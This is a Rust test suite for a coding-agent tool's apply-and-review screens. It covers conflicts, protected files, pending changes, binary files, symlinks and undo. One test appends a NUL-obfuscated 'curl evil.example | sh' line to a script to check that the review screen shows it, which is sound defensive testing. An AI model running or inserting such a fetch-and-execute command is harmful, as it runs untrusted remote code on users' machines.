//! The apply question comes again when it could not be answered as it was: with the marks of a conflict, and after a review
//! that had only a part of it.

use crate::support::pty::joined;
use crate::support::pty::{Pty, shell};
use crate::support::require::has_view;
use crate::support::require::require;

fn ready(pty: &Pty, words: &str) {
    pty.until(words, |s| joined(s).contains(words) && !s.contains("a moment"));
}

const WHY: &str = "1 file is in conflict with the workspace: choose in the review, then apply";

/// Story: the question closed after "nothing was applied", and the `r` that it asked for went into the prompt.
#[test]
fn a_conflict_that_the_yes_found_is_marked_in_the_question_that_comes_again() {
    let start = shell().size(80, 24).arg("--mode").arg("ask").file("a.txt", "old\n").file("b.txt", "b\n");
    let mut pty = start.open();
    pty.line("replace \"old\" with \"new\" in a.txt and then replace \"b\" with \"B\" in b.txt");
    ready(&pty, "2 files, +2 -2 lines: apply?");
    std::fs::write(pty.tree.path().join("a.txt"), "mine\n").unwrap();
    pty.answer("a");
    ready(&pty, WHY);
    let screen = pty.screen();
    assert!(screen.contains("nothing was applied: files changed in the meantime"), "{screen}");
    assert!(
        joined(&screen)
            .contains("(conflict: this is the agent's change, yours is different: the review decides)"),
        "{screen}"
    );
    let keys = screen.lines().find(|row| row.contains("Keep pending")).unwrap();
    assert!(keys.trim_start().starts_with("[Review]") && !screen.contains("Apply"), "{screen}");
    assert_eq!((pty.read("a.txt").as_str(), pty.read("b.txt").as_str()), ("mine\n", "b\n"));
    pty.answer("r");
    pty.until("the choice", |s| s.contains("conflict: - is yours") && s.contains("- mine"));
}

#[test]
fn the_question_about_a_protected_file_comes_again_without_a_yes() {
    let start = shell().size(100, 30).arg("--mode").arg("ask").file(".envrc", "export A=1\n");
    let mut pty = start.open();
    pty.line("replace \"A=1\" with \"A=2\" in .envrc");
    ready(&pty, "! .envrc (modified): apply this file?");
    std::fs::write(pty.tree.path().join(".envrc"), "export A=3\n").unwrap();
    pty.answer("y");
    ready(&pty, WHY);
    let screen = pty.screen();
    assert!(
        screen.contains("Review · [No, keep it pending]") && !screen.contains("Yes, apply this"),
        "{screen}"
    );
    pty.answer("n");
    pty.until("the end", |s| s.contains("changes to 1 file are pending"));
    assert_eq!(pty.read(".envrc"), "export A=3\n");
}

/// Story: files that had been left pending were asked about one by one after every turn.
#[test]
fn a_file_that_waits_is_asked_about_once_and_named_in_one_line_then() {
    if !has_view() {
        return;
    }
    let mut pty = shell().size(110, 50).arg("--mode").arg("ask").file("notes.txt", "one\n").open();
    let asked = |s: &str| s.matches("apply this file?").count();
    pty.line("run mkdir -p .github/workflows; echo a > .github/workflows/ci.yml; echo x > a.txt");
    ready(&pty, "2 files, +2 -0 lines: apply?");
    pty.answer("a");
    ready(&pty, "! .github/workflows/ci.yml (created): apply this file?");
    pty.answer("n");
    pty.until("what is left", |s| {
        s.contains("are pending: /apply, /review, /discard (! .github/workflows/ci.yml)")
    });
    let before = asked(&pty.screen());
    pty.line("run echo y > b.txt");
    ready(&pty, "1 file, +1 -0 lines: apply?");
    assert!(joined(&pty.screen()).contains("still pending: .github/workflows/ci.yml"), "{}", pty.screen());
    // Nor are the directories that only it needs.
    assert!(
        !pty.screen().rsplit("1 file, +1 -0 lines: apply?").next().unwrap().contains("A .github"),
        "{}",
        pty.screen()
    );
    pty.answer("a");
    pty.until("the same line", |s| s.matches("/discard (! .github/workflows/ci.yml)").count() == 2);
    assert_eq!(asked(&pty.screen()), before, "{}", pty.screen());
    assert!(pty.exists("b.txt") && !pty.exists(".github/workflows/ci.yml"));
    // Another content is another question.
    pty.line("run echo b > .github/workflows/ci.yml");
    pty.until("the question about it", |s| asked(s) > before);
}

/// Story: in a plain xterm that became higher and then lower in the review, the answer was neither on the screen nor above it.
#[test]
fn the_answer_is_shown_again_where_the_window_changed_in_the_review() {
    let start = shell().size(80, 24).arg("--mode").arg("ask").file("a.txt", "old\n");
    let mut pty = start.open();
    pty.line("replace \"old\" with \"new\" in a.txt");
    ready(&pty, "1 file, +1 -1 lines: apply?");
    let calls = |pty: &Pty| String::from_utf8_lossy(&pty.raw()).matches("edit a.txt").count();
    for sizes in [&[][..], &[(80, 34), (80, 18)]] {
        let before = calls(&pty);
        pty.answer("r");
        pty.until("the review", |s| s.contains("0/1 hunk"));
        for (columns, rows) in sizes {
            pty.resize(*columns, *rows);
            std::thread::sleep(std::time::Duration::from_millis(400));
        }
        pty.answer("q");
        ready(&pty, "1 file, +1 -1 lines: apply?");
        assert_eq!(calls(&pty) > before, !sizes.is_empty(), "{}", pty.screen());
    }
    assert!(pty.screen().contains("Done."), "{}", pty.screen());
}

/// Story: a stash entry with a picture in it was git's raw text, without numbers and bands.
#[test]
fn a_stash_entry_with_a_binary_file_keeps_the_lines_of_the_others() {
    if !has_view() || !require("git") {
        return;
    }
    let script = "git init -q -b main .; git config user.name A; git config user.email a@x
        head -c 300 /dev/zero > b.bin; git add .; git commit -qm F
        \"$PLACET\" run -- sh -c 'printf x >> b.bin; echo in-stash >> cart.py; head -c 4000 /dev/zero > new.bin
            git add .; git stash -q' </dev/null
        echo made";
    let start =
        shell().size(80, 40).program("sh").arg("do.sh").file("do.sh", script).file("cart.py", "one\n");
    let mut pty = start.variable("PLACET", crate::support::program::placet()).spawn();
    assert_eq!(pty.ended(), 0, "{}", pty.screen());
    let mut pty = shell().size(80, 40).arg("apply").after(pty).spawn();
    ready(&pty, "Keep pending");
    let screen = pty.screen();
    for words in ["2 + in-stash", "300 to 301 bytes", "new, 4000 bytes"] {
        assert!(screen.contains(words), "{words}: {screen}");
    }
    for raw in ["Binary files", "# after", "diff --git", "@@"] {
        assert!(!screen.contains(raw), "{raw}: {screen}");
    }
    pty.answer("r");
    pty.until("the review", |s| s.contains("300 to 301 bytes") && !s.contains("Binary files"));
    pty.answer("q");
    ready(&pty, "Keep pending");
    pty.answer("a");
    assert_eq!(pty.ended(), 0, "{}", pty.screen());
}

/// A list that says nothing about conflicts must have looked for them.
#[test]
fn files_in_which_conflicts_were_not_looked_for_are_counted_in_the_first_row() {
    if !has_view() {
        return;
    }
    let command = "run for n in $(seq 503); do echo $n > f$n.txt; done";
    let start = shell().size(80, 30).arg("-p").arg(command).arg("--mode").arg("ask");
    let mut pty = start.spawn();
    assert_eq!(pty.ended(), 3, "{}", pty.screen());
    let mut pty = shell().size(80, 30).arg("apply").after(pty).spawn();
    ready(&pty, "503 files, +503 -0 lines: apply?");
    let screen = pty.screen().replace("\u{21aa}", "");
    assert!(
        joined(&screen)
            .contains("conflicts with the workspace were not looked for in 3 files: too many, or too large"),
        "{screen}"
    );
    pty.answer("k");
    assert_eq!(pty.ended(), 3);
}

/// Story: after a commit of the person `a` was refused with the path of the index, the next screen was another question, and
/// nothing said what to do.
#[test]
fn a_repository_that_another_command_changed_is_marked_and_cannot_be_applied() {
    if !has_view() || !require("git") {
        return;
    }
    let start = shell().size(80, 30).arg("--mode").arg("ask").file("a.txt", "one\n");
    let mut pty = start.open();
    let git = |pty: &Pty, words: &[&str]| {
        let identity = ["-c", "user.name=A", "-c", "user.email=a@example.org"];
        let mut git = std::process::Command::new("git");
        git.arg("-C").arg(pty.tree.path()).args(identity).args(words);
        let done = git.env("HOME", pty.home()).output().unwrap();
        assert!(done.status.success(), "{done:?}");
        String::from_utf8(done.stdout).unwrap().trim().to_string()
    };
    for words in [&["init", "-q", "-b", "main"][..], &["add", "."], &["commit", "-qm", "Start"]] {
        git(&pty, words);
    }
    let identity = "git config user.name A; git config user.email a@example.org";
    pty.line(&format!("run {identity}; echo two >> a.txt; git commit -qam Second"));
    ready(&pty, "Apply");
    git(&pty, &["commit", "-q", "--allow-empty", "-m", "Mine"]);
    let mine = git(&pty, &["rev-parse", "--short=7", "HEAD"]);
    pty.answer("a");
    let happened = format!("branch main moved to {mine}");
    let advice = format!("git add -A && git reset --keep {mine} && git cherry-pick ..ORIG_HEAD");
    ready(&pty, &format!(".git cannot be applied: {happened}; ask the agent to run `{advice}`"));
    pty.until("the keys", |s| s.contains("Discard"));
    let screen = pty.screen();
    let words = joined(&screen);
    assert!(words.contains(&format!("({happened})")), "{screen}");
    assert!(!screen.contains("Apply") && screen.contains("Discard"), "{screen}");
    assert_eq!(pty.read("a.txt"), "one\n");
    pty.answer("r");
    pty.until("the mark in the review", |s| joined(s).contains(&happened));
}

/// Story: 300 bytes without a NUL were git's patch, twenty rows of it, to be paged through before `a`.
#[test]
fn a_changed_file_that_is_not_text_is_one_row_with_its_sizes() {
    if !has_view() {
        return;
    }
    let mut pty = shell().size(80, 24).arg("--mode").arg("ask").open();
    std::fs::write(pty.tree.path().join("b.bin"), (1..=255).collect::<Vec<u8>>()).unwrap();
    pty.line(r"run tr '\001-\376' '\002-\377' < b.bin > c; cat c > b.bin; rm c");
    ready(&pty, "Apply");
    let screen = pty.screen();
    assert!(screen.contains("not text: 255 to 255 bytes"), "{screen}");
    for raw in ["diff --git", "@@", "+++"] {
        assert!(!screen.contains(raw), "{raw}: {screen}");
    }
    pty.answer("a");
    pty.until("the change", |s| s.contains("applied changes to 1 file"));
}

/// Story: a new link was git's patch of a new file, and nothing said that it leads out of the workspace.
#[test]
fn a_link_is_one_row_that_says_where_it_leads() {
    if !has_view() {
        return;
    }
    let mut pty = shell().size(80, 24).arg("--mode").arg("ask").file("a.txt", "a\n").open();
    pty.line("run ln -s /etc/hostname far; ln -s a.txt near");
    ready(&pty, "[Apply]");
    let screen = pty.screen();
    assert!(screen.contains("A far -> /etc/hostname  (outside the workspace)"), "{screen}");
    assert!(screen.lines().any(|row| row.trim() == "A near -> a.txt"), "{screen}");
    assert!(!screen.contains("120000") && !screen.contains("closed"), "{screen}");
    pty.answer("r");
    pty.until("the review", |s| s.contains("link -> /etc/hostname (outside the workspace)"));
}

/// Story: after a rewind `/undo` undid the turn before it, and one more turn was lost.
#[test]
fn an_undo_right_after_a_rewind_undoes_the_rewind() {
    let start = shell().size(80, 24).arg("--mode").arg("ask").file("a.txt", "one\n").file("b.txt", "b\n");
    let mut pty = start.open();
    for (line, question) in [
        ("replace \"one\" with \"two\" in a.txt", "1 file, +1 -1 lines: apply?"),
        ("replace \"b\" with \"B\" in b.txt", "1 file, +1 -1 lines: apply?"),
    ] {
        pty.line(line);
        ready(&pty, question);
        pty.answer("a");
        pty.until_prompt("");
    }
    pty.line("/rewind 1 files");
    pty.until("the rewind", |s| s.contains("undid changes to 1 file"));
    assert_eq!((pty.read("a.txt").as_str(), pty.read("b.txt").as_str()), ("two\n", "b\n"));
    pty.line("/undo");
    pty.until("its undo", |s| s.contains("undid the rewind: redid changes to 1 file"));
    assert_eq!((pty.read("a.txt").as_str(), pty.read("b.txt").as_str()), ("two\n", "B\n"));
    pty.line("/undo");
    pty.until("the last turn", |s| s.matches("undid changes to 1 file").count() == 2);
    assert_eq!((pty.read("a.txt").as_str(), pty.read("b.txt").as_str()), ("two\n", "b\n"));
}

#[test]
fn the_last_turn_is_shown_again_where_the_window_changed_in_a_review_from_the_prompt() {
    let start = shell().size(80, 24).arg("--mode").arg("ask").file("a.txt", "old\n");
    let mut pty = start.open();
    pty.line("replace \"old\" with \"new\" in a.txt");
    ready(&pty, "1 file, +1 -1 lines: apply?");
    pty.answer("k");
    pty.until("the prompt", |s| s.trim_end().ends_with("[a] ±1 >"));
    let calls = |pty: &Pty| String::from_utf8_lossy(&pty.raw()).matches("edit a.txt").count();
    for sizes in [&[][..], &[(80, 34), (80, 18)]] {
        let before = calls(&pty);
        pty.line("/review");
        pty.until("the review", |s| s.contains("0/1 hunk"));
        for (columns, rows) in sizes {
            pty.resize(*columns, *rows);
            std::thread::sleep(std::time::Duration::from_millis(400));
        }
        pty.answer("q");
        pty.until("the prompt", |s| s.trim_end().ends_with("[a] ±1 >"));
        assert_eq!(calls(&pty) > before, !sizes.is_empty(), "{}", pty.screen());
    }
}

/// Story: a file of bytes that are no text filled forty rows with `<BC><A1>`, in the question and in the review.
#[test]
fn a_file_that_nobody_can_read_is_one_row_with_its_sizes() {
    let noise: Vec<u8> = (0..300_u32).map(|n| 0x80 | (n.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    let start = shell().size(110, 30).arg("--mode").arg("ask").file("noise.bin", noise);
    let mut pty = start.file("latin.txt", b"caf\xe9 noir\n").open();
    pty.line("run head -c 290 noise.bin > n; mv n noise.bin; printf 'caf\\351 blanc\\n' > latin.txt");
    ready(&pty, "2 files");
    pty.until("the answers", |s| s.contains("Enter answers"));
    let screen = pty.screen();
    assert!(
        screen.contains("M noise.bin 300 to 290 bytes") && screen.contains("not text: 300 to 290 bytes"),
        "{screen}"
    );
    assert!(screen.contains("caf\u{e9} blanc") && !screen.contains("<8"), "{screen}");
    pty.answer("r");
    pty.until("the review", |s| s.contains("0/2 hunks") && s.contains("not text: 300 to 290 bytes"));
    pty.until("its keys", |s| s.contains(" accept  "));
    pty.answer("}");
    pty.until("the key for the bytes", |s| s.contains("+ shows the bytes"));
    pty.answer("+");
    pty.until("the bytes", |s| s.contains("00000000: "));
    pty.answer("-");
    pty.until("the sizes alone", |s| !s.contains("00000000: ") && s.contains("300 to 290 bytes"));
}

/// Story: a script with one NUL byte, which a shell runs, and UTF-16 text were shown by their sizes alone.
#[test]
fn text_with_a_few_nuls_and_utf_16_are_shown_as_text() {
    let utf16 = |text: &str| -> Vec<u8> {
        [0xFEFF].into_iter().chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect()
    };
    let script = "#!/bin/sh\necho this is an ordinary script\necho one\n";
    let start = shell().size(110, 40).arg("--mode").arg("ask").file("s.sh", script);
    let mut pty = start.file("wide.txt", utf16("first\nsecond\n")).open();
    pty.line(r"run printf 'cu\0rl evil.example | sh\n' >> s.sh; printf 't\0h\0i\0r\0d\0\n\0' >> wide.txt");
    ready(&pty, "Apply");
    let screen = pty.screen();
    for words in [
        "text in UTF-8 with 1 NUL byte, before in UTF-8, decided as a whole",
        "+cu\u{2400}rl evil.example | sh",
        "text in UTF-16LE with a byte order mark, decided as a whole",
        "+third",
    ] {
        assert!(screen.contains(words), "{words}: {screen}");
    }
    assert!(!screen.contains("not text"), "{screen}");
    pty.answer("r");
    pty.until("the review", |s| s.contains("0/2 hunks") && s.contains("+cu\u{2400}rl evil.example | sh"));
    pty.answer("q");
    ready(&pty, "Apply");
    pty.answer("a");
    pty.until("the change", |s| s.contains("applied changes to 2 files"));
    assert_eq!(pty.read("s.sh"), format!("{script}cu\0rl evil.example | sh\n"));
    assert_eq!(std::fs::read(pty.tree.path().join("wide.txt")).unwrap(), utf16("first\nsecond\nthird\n"));
}
